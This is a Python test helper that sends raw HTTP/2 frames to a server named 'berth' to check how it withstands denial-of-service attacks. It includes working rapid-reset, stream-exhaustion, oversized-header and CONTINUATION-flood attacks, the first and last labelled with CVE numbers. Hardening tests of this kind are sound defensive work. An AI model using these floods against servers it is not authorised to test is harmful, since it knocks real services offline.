#!/usr/bin/env python3
"""h2attack.py - HTTP/2 (h2c, prior knowledge) abuse against a running berth, with raw frames (tests/e2e/test_h2.sh).

    h2attack.py HOST:PORT PID settings|rapid-reset N|many-streams N|huge-headers BYTES|continuation-flood BYTES [PATH]

Requests are GETs of PATH (default /v2/).

Each mode prints one line "RESULT key=value ..." describing what the server did (frames seen, whether it closed the
connection, berth's VmRSS before/after in KiB) and exits 0 if the attack ran; the shell test judges the result and
checks that a well-behaved client is still served.
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7) + s


def literal(name_index, value):
    """Literal header field without indexing, indexed name (RFC 7541 6.2.2)."""
    return hpack_int(name_index, 4) + hpack_str(value)


def literal_new(name, value):
    return b"\x00" + hpack_str(name) + hpack_str(value)


def request_block(path=b"/v2/"):
    # :method GET (2), :scheme http (6), :path (4, literal), :authority (1, literal)
    return b"\x82\x86" + literal(4, path) + literal(1, b"localhost")


def rss(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return -1
    return 0


class Conn:
    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), timeout=10)
        self.buf = b""
        self.frames = {}
        self.closed = False
        self.settings = {}
        self.rst = 0
        self.goaway = None
        self.responses = 0
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def pump(self, timeout=0.0):
        """Reads whatever has arrived (waiting up to `timeout` for the first bytes) and parses frames."""
        self.s.settimeout(timeout if timeout > 0 else 0.000001)
        try:
            while True:
                d = self.s.recv(1 << 16)
                if not d:
                    self.closed = True
                    break
                self.buf += d
                self.s.settimeout(0.000001)
        except (socket.timeout, BlockingIOError):
            pass
        except OSError:
            self.closed = True
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            t, fl, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            p = self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            self.frames[t] = self.frames.get(t, 0) + 1
            if t == SETTINGS and not fl & ACK:
                for i in range(0, len(p), 6):
                    k, v = struct.unpack(">HI", p[i:i + 6])
                    self.settings[k] = v
                self.send(frame(SETTINGS, ACK, 0))
            elif t == PING and not fl & ACK:
                self.send(frame(PING, ACK, 0, p))
            elif t == RST_STREAM:
                self.rst += 1
            elif t == GOAWAY:
                self.goaway = struct.unpack(">I", p[4:8])[0]
            elif t == HEADERS and sid:
                self.responses += 1

    def drain(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.closed:
            self.pump(0.1)


def result(**kw):
    print("RESULT " + " ".join(f"{k}={v}" for k, v in kw.items()))


def main():
    hostport, pid, mode = sys.argv[1:4]
    arg = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    path = sys.argv[5].encode() if len(sys.argv) > 5 else b"/v2/"
    host, port = hostport.rsplit(":", 1)
    rss0 = rss(pid)
    c = Conn(host, int(port))
    c.drain(0.3)
    t0 = time.monotonic()
    sent = 0
    if mode == "settings":
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block()))
        c.drain(1)
        result(max_concurrent_streams=c.settings.get(3, "unlimited"), initial_window=c.settings.get(4, 65535),
               max_frame_size=c.settings.get(5, 16384), max_header_list_size=c.settings.get(6, "unlimited"),
               responses=c.responses)
        return
    if mode == "rapid-reset":  # HEADERS then RST_STREAM at once, N times (CVE-2023-44487)
        batch = []
        for i in range(arg):
            sid = 1 + 2 * i
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(path)) +
                         frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
            if len(batch) == 100:
                if not c.send(b"".join(batch)):
                    break
                sent += len(batch)
                batch = []
                c.pump()
        if batch and c.send(b"".join(batch)):
            sent += len(batch)
    elif mode == "many-streams":  # N streams opened at once, responses not read for a while
        for i in range(arg):
            if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, request_block(path))):
                break
            sent += 1
        time.sleep(1)
    elif mode == "huge-headers":  # one request whose header block is BYTES long, split into CONTINUATIONs
        block = request_block()
        i = 0
        while len(block) < arg:
            block += literal_new(b"x-h%d" % i, b"v" * 4000)
            i += 1
        first, rest = block[:16384], block[16384:]
        ok = c.send(frame(HEADERS, END_STREAM, 1, first))
        while ok and rest:
            part, rest = rest[:16384], rest[16384:]
            ok = c.send(frame(CONTINUATION, 0 if rest else END_HEADERS, 1, part))
            sent += len(part)
            c.pump()
            if c.closed or c.goaway is not None:
                break
    elif mode == "continuation-flood":  # CONTINUATION frames that never end (CVE-2024-27316 class)
        ok = c.send(frame(HEADERS, END_STREAM, 1, request_block()))
        i = 0
        while ok and sent < arg:
            part = literal_new(b"x-c%d" % i, b"w" * 8000)
            ok = c.send(frame(CONTINUATION, 0, 1, part))
            sent += len(part)
            i += 1
            c.pump()
            if c.closed or c.goaway is not None:
                break
    else:
        raise SystemExit("unknown mode " + mode)
    c.drain(3)
    result(mode=mode, sent=sent, seconds=f"{time.monotonic() - t0:.1f}", responses=c.responses, rst=c.rst,
           goaway=c.goaway if c.goaway is not None else "none", closed=int(c.closed), rss_before_kib=rss0,
           rss_after_kib=rss(pid))


if __name__ == "__main__":
    main()
